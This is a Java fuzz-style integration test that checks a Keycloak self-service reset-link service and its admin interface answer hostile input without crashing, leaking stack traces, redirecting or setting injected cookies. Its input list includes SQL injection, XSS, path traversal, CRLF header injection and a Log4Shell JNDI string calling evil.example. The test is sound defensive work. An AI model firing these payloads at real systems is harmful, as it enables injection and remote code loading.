package dev.selfservice.keycloak.e2e.rules;

import static org.assertj.core.api.Assertions.assertThat;

import dev.selfservice.keycloak.e2e.actors.Administrator;
import dev.selfservice.keycloak.e2e.actors.Answer;
import dev.selfservice.keycloak.e2e.actors.CalledForHelp;
import dev.selfservice.keycloak.e2e.actors.HttpBrowser;
import dev.selfservice.keycloak.e2e.actors.Json;
import dev.selfservice.keycloak.e2e.actors.ScriptedMember;
import dev.selfservice.keycloak.e2e.server.Educloud;
import dev.selfservice.keycloak.e2e.server.InjectEducloud;
import dev.selfservice.keycloak.e2e.server.SelfserviceServer;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.sessions.JqwikSession;
import org.junit.jupiter.api.Test;
import org.keycloak.testframework.annotations.KeycloakIntegrationTest;

/** The outsider sends what no browser would, and waits for an answer that is different: a crash, a stack trace, a hint. */
@KeycloakIntegrationTest(config = SelfserviceServer.class)
class Rule12_WhateverIsSentIsAnsweredAlikeIT {

    private static final int EACH = 12;
    private static final List<String> KNOWN = List.of(
            "",
            " ",
            "\0",
            "%",
            "%00",
            "..",
            "../..",
            "f:x",
            "f:x:y",
            "f::",
            "'",
            "' or '1'='1",
            "\"><script>",
            "${jndi:ldap://evil.example/a}",
            "{0}",
            "\r\nSet-Cookie: a=b",
            "\uD800",
            "\uFFFF",
            "\u202E",
            "\uD83D\uDE00",
            "null",
            "-1",
            "9".repeat(30),
            "A".repeat(43),
            "A".repeat(44),
            "0".repeat(36),
            "x".repeat(3_000));

    /** Addresses that it refuses before anybody is asked. */
    private static final List<String> KEYCLOAKS_OWN =
            List.of("Request path not normalized", "Blocking invalid query parameter value");

    @InjectEducloud
    Educloud educloud;

    @Test
    void anyTextInTheAddressesOfPagesOpensNothing() {
        for (String text : texts()) {
            for (String path : List.of("/reset-link/", "/reset-link/stop/")) {
                for (String method : List.of("GET", "POST", "HEAD")) {
                    Answer answer = new HttpBrowser().send(method, educloud.url() + path + encoded(text));
                    isNoCrash(answer, text);
                    assertThat(answer.status()).as(method + path + shown(text)).isNotIn(302, 303);
                }
            }
            Answer page = new HttpBrowser().get(educloud.url() + "/reset-link/unknown?kc_locale=" + encoded(text));
            isNoCrash(page, text);
            // 400: Keycloak reads no parameter with a control character in it, whatever it is for.
            assertThat(page.status() == 400 || page.title().equals("This link can't be used"))
                    .as(shown(text))
                    .isTrue();
            assertThat(page.header("Set-Cookie")).isEmpty();
        }
    }

    @Test
    void anyTextInTheFieldsOfFormsLeadsNoFurther() {
        CalledForHelp call = CalledForHelp.in(educloud);
        educloud.set("attempts-per-link", "20");
        educloud.set("attempts-per-member", "100");
        for (String text : texts()) {
            ScriptedMember member = ScriptedMember.open(call.mail());
            if (!member.isAskedForSecret()) {
                call = CalledForHelp.in(educloud);
                member = ScriptedMember.open(call.mail());
            }
            String action = member.page().action("kc-reset-link-secret-form");
            Map<String, String> form = new HashMap<>();
            for (String field :
                    List.of("secret", "choice", "page", "totp", "totpSecret", "userLabel", "password-new")) {
                form.put(field, text);
            }
            isNoCrash(member.browser().post(action, form), text);
            isNoCrash(member.browser().get(action + "&page=" + encoded(text)), text);
            isNoCrash(member.browser().send("POST", action, text, Map.of("Content-Type", "application/json")), text);
            // Not as a form: a percent sign that begins no escape is a server error of Keycloak's before anybody is
            // asked.
            isNoCrash(member.browser().send("POST", action, text, Map.of("Content-Type", "multipart/form-data")), text);
        }
    }

    @Test
    void anyTextBehindTheSecretChangesNothing() {
        CalledForHelp call = CalledForHelp.in(educloud);
        ScriptedMember member =
                ScriptedMember.open(call.mail()).toOtpPage(call.link().secret());
        String form = "kc-totp-settings-form";
        String address = member.page().url();
        for (String text : texts()) {
            Answer page = member.browser().get(address);
            Map<String, String> fields = Map.of("totp", text, "userLabel", text, "mode", text);
            Answer again = member.browser().submit(page, form, fields);
            isNoCrash(again, text);
            isNoCrash(member.browser().post(again.action(form), Map.of("totp", text, "totpSecret", text)), text);
        }
        assertThat(call.administrator().see(call.link()).path("otpSet").asBoolean())
                .isFalse();
        assertThat(call.administrator().status(call.link())).isEqualTo("IN_RECOVERY");
    }

    @Test
    void anyTextSentToTheConsolesInterfaceIsRefusedInTheContractsForm() {
        CalledForHelp call = CalledForHelp.in(educloud);
        Administrator administrator = call.administrator();
        String links = administrator.links();
        for (String text : texts()) {
            String word = encoded(text);
            List<Answer> answers = new ArrayList<>();
            for (String path : List.of(
                    "/projects/" + word + "/members",
                    "/projects/" + word + "/reset-links",
                    links + "/" + word,
                    "/projects?first=" + word,
                    "/projects?search=" + word,
                    "/projects/" + administrator.projectId() + "/members?search=" + word,
                    links + "?status=" + word,
                    "/" + word)) {
                answers.add(administrator.api().get(path));
            }
            answers.add(administrator.api().delete(links + "/" + word));
            answers.add(administrator.api().post(links, text));
            answers.add(administrator
                    .api()
                    .post(links, "{\"memberId\":" + Json.write(text) + ",\"identityCheck\":\"VIDEO\"}"));
            answers.add(
                    administrator.api().post(links, "{\"memberId\":\"x\",\"identityCheck\":" + Json.write(text) + "}"));
            answers.add(administrator
                    .api()
                    .call("GET", "/me", null, Map.of("Accept-Language", ascii(text), "Accept", ascii(text))));
            for (Answer answer : answers) {
                isNoCrash(answer, text);
                if (answer.status() >= 400 && KEYCLOAKS_OWN.stream().noneMatch(answer.body()::contains)) {
                    assertThat(answer.json().has("errorMessage"))
                            .as(answer.url() + " " + answer.body())
                            .isTrue();
                }
            }
        }
        assertThat(administrator.api().get(links + "?max=100").json())
                .filteredOn(link -> administrator
                        .person()
                        .id()
                        .equals(link.path("createdBy").path("id").asText()))
                .hasSize(1);
        assertThat(administrator.status(call.link())).isEqualTo("SENT");
    }

    /** Those that are known to have broken something somewhere, and as many that nobody has thought of. */
    private static List<String> texts() {
        List<String> texts = new ArrayList<>(KNOWN);
        Arbitrary<String> any = Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(80),
                Arbitraries.strings().ascii().ofMaxLength(80),
                Arbitraries.strings().withChars("{}[]\"':,.0-eE \\u").ofMaxLength(60));
        JqwikSession.run(() -> any.sampleStream().limit(EACH).forEach(texts::add));
        return texts;
    }

    private static void isNoCrash(Answer answer, String sent) {
        assertThat(answer.status())
                .as(answer.url() + " with " + shown(sent) + ": " + answer.body())
                .isBetween(200, 499);
        assertThat(answer.body())
                .as(answer.url() + " with " + shown(sent))
                .doesNotContain("Exception", "\tat ", "org.keycloak.", "java.lang", "unknown_error");
        assertThat(answer.headers().allValues("Set-Cookie")).noneMatch(cookie -> cookie.startsWith("a=b"));
    }

    private static String encoded(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static String ascii(String text) {
        return text.replaceAll("[^\\x20-\\x7E]", "?");
    }

    private static String shown(String text) {
        StringBuilder shown = new StringBuilder();
        text.chars().limit(100).forEach(unit -> shown.append("%04x ".formatted(unit)));
        return shown.toString();
    }
}
